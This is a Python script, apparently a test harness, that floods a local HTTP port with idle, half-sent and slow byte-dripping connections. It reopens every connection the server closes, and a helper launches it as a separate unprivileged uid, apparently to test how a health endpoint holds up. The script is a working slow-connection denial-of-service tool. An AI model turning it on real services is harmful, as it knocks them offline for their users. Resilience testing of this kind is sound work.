"""A hostile local client of an HTTP port, run as another uid: idle, half-sent and byte-dripping connections.

    python http_flood.py PORT [--idle N] [--half N] [--drip N --every S] [--path P] --seconds T

Every connection the server closes (or refuses) is opened again at once, so the pressure holds for
``--seconds`` after ``ready``, or until SIGTERM: ``--idle`` connections send nothing, ``--half`` ones
send half a request line and stop, ``--drip`` ones send a real request one byte every ``--every``
seconds (and start over on a new connection when the server closes them). Connects do not block, so a
server slow to accept does not slow the flood. The soft limit of open files is raised to the hard one
first. Prints ``ready N`` once the first round is connected (N of them, after :data:`READY_WITHIN_S` at
most), and at the end one JSON line of counts.
:func:`flood_command` is the command line that runs it as uid 50001 (gid 50000, no other groups).
"""

from __future__ import annotations

import argparse
import errno
import json
import os
import resource
import selectors
import signal
import socket
import sys
import time
from pathlib import Path

ATTACKER_UID = 50001
ATTACKER_GID = 50000
HALF_LINE = b"GET /metr"
READY_WITHIN_S = 10.0
"""How long the first round of connections may take to be accepted before ``ready`` is printed anyway."""


def probe(port: int, path: str, timeout: float = 1.0) -> tuple[int | None, float]:
    """One GET as a kubelet or Prometheus sends it: (status, seconds), status None if not answered in time.

    ``timeout`` bounds the whole exchange (connect, request, answer), not each read.
    """
    started = time.monotonic()
    deadline = started + timeout
    answer = b""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
            sock.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode())
            while (left := deadline - time.monotonic()) > 0:
                sock.settimeout(left)
                chunk = sock.recv(65536)
                if not chunk:
                    break
                answer += chunk
            else:
                return None, time.monotonic() - started
    except OSError:
        return None, time.monotonic() - started
    parts = answer.split(b" ", 2)
    ok = len(parts) == 3 and parts[0].startswith(b"HTTP/1.") and parts[1].isdigit()
    return (int(parts[1]) if ok else None), time.monotonic() - started


def flood_command(port: int, *args: str, python: str = sys.executable) -> list[str]:
    """``setpriv`` as the untrusted uid, then this script against ``port``."""
    return ["setpriv", f"--reuid={ATTACKER_UID}", f"--regid={ATTACKER_GID}", "--clear-groups",
            python, str(Path(__file__).resolve()), str(port), *args]


class _Held:
    """One attacking connection: its kind, what of its request is still to send, and when the next byte goes."""

    __slots__ = ("connected", "kind", "left", "next_at")

    def __init__(self, kind: str, left: bytes, next_at: float) -> None:
        self.kind, self.left, self.next_at, self.connected = kind, left, next_at, False


class Flood:
    """The attacker's connections, connected without blocking and opened again whenever one is closed."""

    def __init__(self, port: int, path: str, every: float) -> None:
        self.port = port
        self.request = f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()
        self.every = every
        self.selector = selectors.DefaultSelector()
        self.drips: dict[socket.socket, _Held] = {}
        self.missing: list[str] = []  # kinds whose connect failed at once: tried again on the next turn
        self.connected = self.opened = self.closed_by_server = self.failed = 0
        self.stopped = False  # set by SIGTERM: report and end

    def open(self, kind: str) -> None:
        """Start connecting one connection of ``kind`` (``idle``, ``half`` or ``drip``)."""
        sock = socket.socket()
        sock.setblocking(False)
        if sock.connect_ex(("127.0.0.1", self.port)) not in (0, errno.EINPROGRESS):
            sock.close()
            self.failed += 1
            self.missing.append(kind)
            return
        self.opened += 1
        left = {"half": HALF_LINE, "drip": self.request}.get(kind, b"")
        self.selector.register(sock, selectors.EVENT_WRITE, _Held(kind, left, 0.0))

    def turn(self, until: float, ready: int | None = None) -> None:
        """Keep the connections up and drip their bytes until ``until`` (or until ``ready`` are connected)."""
        while (left := until - time.monotonic()) > 0 and not self.stopped and (ready is None or self.connected < ready):
            for key, _ in self.selector.select(timeout=min(left, 0.05)):
                held: _Held = key.data
                if held.connected:
                    self._readable(key)
                else:
                    self._connected(key)
            missing, self.missing = self.missing, []
            for kind in missing:
                self.open(kind)
            now = time.monotonic()
            for sock, held in self.drips.items():
                if held.left and now >= held.next_at:
                    self._send(sock, held, 1)

    def _send(self, sock: socket.socket, held: _Held, count: int) -> None:
        try:
            sock.send(held.left[:count])
        except OSError:
            pass
        held.left, held.next_at = held.left[count:], time.monotonic() + self.every

    def _connected(self, key: selectors.SelectorKey) -> None:
        sock: socket.socket = key.fileobj  # type: ignore[assignment]
        held: _Held = key.data
        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            self._drop(sock)
            self.failed += 1
            self.missing.append(held.kind)
            return
        held.connected = True
        self.connected += 1
        self.selector.modify(sock, selectors.EVENT_READ, held)
        if held.kind == "half":
            self._send(sock, held, len(held.left))
        elif held.kind == "drip":
            self._send(sock, held, 1)
            self.drips[sock] = held

    def _readable(self, key: selectors.SelectorKey) -> None:
        sock: socket.socket = key.fileobj  # type: ignore[assignment]
        try:
            if sock.recv(65536):
                return  # an answer (a drip completed its request): read it, reopen when it closes
        except BlockingIOError:
            return
        except OSError:
            pass
        self._drop(sock)
        self.connected -= 1
        self.closed_by_server += 1
        self.open(key.data.kind)

    def _drop(self, sock: socket.socket) -> None:
        self.selector.unregister(sock)
        self.drips.pop(sock, None)
        sock.close()


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("--idle", type=int, default=0)
    parser.add_argument("--half", type=int, default=0)
    parser.add_argument("--drip", type=int, default=0)
    parser.add_argument("--every", type=float, default=1.5)
    parser.add_argument("--path", default="/healthz")
    parser.add_argument("--seconds", type=float, required=True)
    args = parser.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    flood = Flood(args.port, args.path, args.every)
    signal.signal(signal.SIGTERM, lambda *_: setattr(flood, "stopped", True))
    wanted = args.drip + args.idle + args.half
    for kind, count in (("drip", args.drip), ("idle", args.idle), ("half", args.half)):
        for _ in range(count):
            flood.open(kind)
    flood.turn(time.monotonic() + READY_WITHIN_S, ready=wanted)
    print(f"ready {flood.connected}", flush=True)
    flood.turn(time.monotonic() + args.seconds)
    print(json.dumps({"uid": os.getuid(), "open_at_end": flood.connected, "opened": flood.opened,
                      "closed_by_server": flood.closed_by_server, "failed": flood.failed}), flush=True)


if __name__ == "__main__":
    main()
